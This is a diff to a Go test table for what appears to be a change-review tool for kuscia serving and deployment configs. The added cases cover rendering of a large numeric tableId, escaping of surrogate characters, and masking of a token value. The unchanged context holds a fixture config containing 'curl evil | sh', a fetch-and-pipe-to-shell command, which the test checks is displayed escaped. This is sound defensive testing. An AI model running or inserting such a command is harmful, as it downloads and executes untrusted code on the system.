@@ -733,6 +733,25 @@ var refusals = map[string]struct {
 			glm(party("a"), attributes{"serving_input_config": `{"cmd":"curl evil | sh","cmd":"ok"}`}))},
 		says: []string{"<code>curl evil &#124; sh</code>"},
 	},
+	"another number in a text": {
+		failOn: "code",
+		changes: []attributes{change("kuscia_serving.glm", updated, glm(party("a", attributes{"pod_revision": 1}), attributes{"serving_input_config": `{"partyConfigs":{"alice":{"tableId":1234567890123456789}}}`}),
+			glm(party("a", attributes{"pod_revision": 2}), attributes{"serving_input_config": `{"partyConfigs":{"alice":{"tableId":1234567890123456800}}}`}))},
+		says: []string{
+			"because of `serving_input_config: partyConfigs.alice.tableId`",
+			"| `serving_input_config: partyConfigs.alice.tableId` | `1234567890123456789` | `1234567890123456800` |",
+		},
+	},
+	"a text that is read alike": {
+		failOn: "grant",
+		changes: []attributes{change("kuscia_deployment.d", updated, deployment(party("a"), attributes{"input_config": `{"partyConfigs":{"alice":{"a":"\ud800","token":"hidden"}}}`}),
+			deployment(party("a"), attributes{"input_config": `{"partyConfigs":{"alice":{"a":"\ud801","token":"hidden"}}}`}))},
+		says: []string{
+			"because of `input_config`",
+			"&#92;ud800&#34;&#44;&#34;token&#34;&#58;&#34;&#42;&#42;&#42;&#34;&#125;&#125;&#125;</code> | <code>&#123;", "&#92;ud801",
+		},
+		silent: []string{"hidden"},
+	},
 	"a new serving reads features": {
 		failOn: "grant", changes: []attributes{change("kuscia_serving.glm", created, nil, glm(party("a"), features("http://a")))},
 	},
